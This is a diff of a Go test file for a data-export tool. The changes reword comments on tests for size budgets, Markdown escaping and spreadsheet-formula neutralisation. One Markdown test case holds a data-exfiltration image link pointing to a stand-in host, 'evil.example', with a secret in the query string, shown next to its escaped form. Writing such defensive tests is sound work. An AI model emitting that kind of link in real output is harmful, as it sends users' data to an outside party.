@@ -21,7 +21,7 @@ import (
 	"github.com/bailiwick-dev/bailiwick/value"
 )
 
-// made returns rows as a source would for a pipeline over notes with authors.
+// made returns rows as a source returns them for a pipeline over notes with authors.
 func made(t *testing.T, limit int, pipeline string, rows ...value.Row) redact.Rows {
 	t.Helper()
 	classes := []schema.Class{
@@ -112,7 +112,8 @@ func TestWholePointers(t *testing.T) {
 	}
 }
 
-// TestPipelineTooLarge checks that a single record over the budget is refused, with a suggestion which columns to omit.
+// TestPipelineTooLarge checks that a single record over the budget is refused. The suggestion names the columns to
+// omit.
 func TestPipelineTooLarge(t *testing.T) {
 	for _, tt := range []struct{ pipeline, want string }{
 		{byAuthor, `the result is 222 bytes, over the budget of 100; the largest fields are texts (211 bytes) | end with {"$project": {"_id": 1}}, or gather less`},
@@ -136,7 +137,7 @@ func TestPipelineTooLarge(t *testing.T) {
 }
 
 // TestMarkdownIsInert checks that data stays plain text in Markdown. It must not become a link, an image, an address
-// that readers turn into a link, or a code block around the text after it.
+// that readers turn into a link, or a code block around the following text.
 func TestMarkdownIsInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x\](https\://evil.example/?q=secret)`},
@@ -191,7 +192,7 @@ func TestExport(t *testing.T) {
 	}
 }
 
-// TestCells checks that cells a spreadsheet would run are made inert, and numbers are left alone.
+// TestCells checks that cells that a spreadsheet would execute become inert, and that numbers stay unchanged.
 func TestCells(t *testing.T) {
 	const plain = `[{"$project": {"text": 1}}]`
 	for _, tt := range []struct {
